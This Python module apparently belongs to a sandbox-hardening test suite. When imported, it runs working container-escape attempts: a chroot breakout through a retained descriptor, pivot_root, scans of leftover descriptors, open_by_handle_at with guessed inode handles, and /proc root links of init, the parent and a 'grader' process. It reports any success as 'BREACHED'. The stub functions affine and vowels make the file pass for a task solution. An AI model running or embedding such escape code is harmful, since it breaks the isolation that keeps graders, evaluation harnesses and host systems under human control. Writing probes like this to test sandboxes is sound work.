"""Leaves its root by chroot, by pivot_root, by descriptors left over, by file handles and by the doors of /proc.

Promise: no-files
Ends: raised
L1: open (there is no root of its own to leave)
L0: open (there is no root of its own to leave)
"""

import ctypes
import os
import struct

WON = "BREA" "CHED"
ROOT = "@root@"
libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"


def call(x86, arm, *arguments):
    """A system call by number. OSError where it fails."""
    result = libc.syscall(ctypes.c_long(arm if ARM else x86), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result == -1:
        raise OSError(ctypes.get_errno(), "held")
    return result


def look(fd, path="."):
    """Names in a folder; a folder of the machine's has these."""
    names = os.listdir(os.open(path, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd))
    if not {"home", "proc", "sys", "boot", "bin"} & set(names):
        raise OSError(2, "not the machine's root")
    return names


def classic():
    """chroot into a folder, then climb past it with a descriptor from before."""
    before = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(before)
    for _ in range(64):
        os.chdir("..")
    return look(os.open(".", os.O_RDONLY))


def pivot():
    """The old root may lie under the new one."""
    call(155, 41, b".", b".")
    return look(os.open("/", os.O_RDONLY))


def leftovers():
    """Any descriptor of a folder or a file: up from there."""
    for fd in range(4096):
        for path in ("..", "../../../../..", ".", ROOT):
            try:
                os.open(path, os.O_RDONLY, dir_fd=fd) if path == ROOT else look(fd, path)
                return fd
            except OSError:
                continue
        try:
            os.fchdir(fd)
            return look(os.open("../../../..", os.O_RDONLY))
        except OSError:
            continue
    raise OSError(9, "none left")


def handles():
    """A file handle of inode 2, 1, 128, 256 of whatever file system a known descriptor is on."""
    for path in ("/", ".", os.__file__, "/dev/null"):
        here = os.open(path, os.O_RDONLY)
        for inode in (1, 2, 128, 256):
            for kind in (1, 0xFE, 0x4D):
                handle = struct.pack("=IiII", 8, kind, inode, 0)
                try:
                    return look(call(304, 265, here, handle, os.O_RDONLY | os.O_DIRECTORY))
                except OSError:
                    continue
    raise OSError(1, "held")


def named():
    """The kernel tells a handle, which then opens."""
    buffer = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount = ctypes.c_int()
    call(303, 264, -100, b"/", buffer, ctypes.byref(mount), 0)
    return look(call(304, 265, os.open("/", os.O_RDONLY), buffer, os.O_RDONLY))


TRIES = {
    "chroot": classic, "pivot_root": pivot, "leftovers": leftovers, "handles": handles, "named handle": named,
    "up": lambda: look(os.open("/..", os.O_RDONLY)), "old": lambda: os.listdir("/old"), "new": lambda: os.listdir("/new"), "put_old": lambda: os.listdir("/tmp/old"),
    "first process": lambda: os.listdir("/proc/1/root/home"), "grader": lambda: os.listdir("/proc/@pid@/root"), "parent": lambda: os.listdir(f"/proc/{os.getppid()}/root"),
    "thread": lambda: os.listdir("/proc/thread-self/root"), "root": lambda: look(-100, "/"), "mounts": lambda: open("/proc/self/mountinfo").read(),
    "folder of another": lambda: os.listdir("/proc/@pid@/cwd"), "up from a mount": lambda: look(-100, os.path.dirname(os.__file__) + "/../../../../.."),
}


def climb():
    """What got through."""
    got = []
    home = os.open(".", os.O_RDONLY)
    for name, action in TRIES.items():
        try:
            action()
            got.append(name)
        except OSError:
            continue
        finally:
            os.fchdir(home)
    return got


GOT = climb()


def affine(x):
    raise ValueError(f"{WON}: {GOT}" if GOT else "held")


def vowels(text):
    return -1
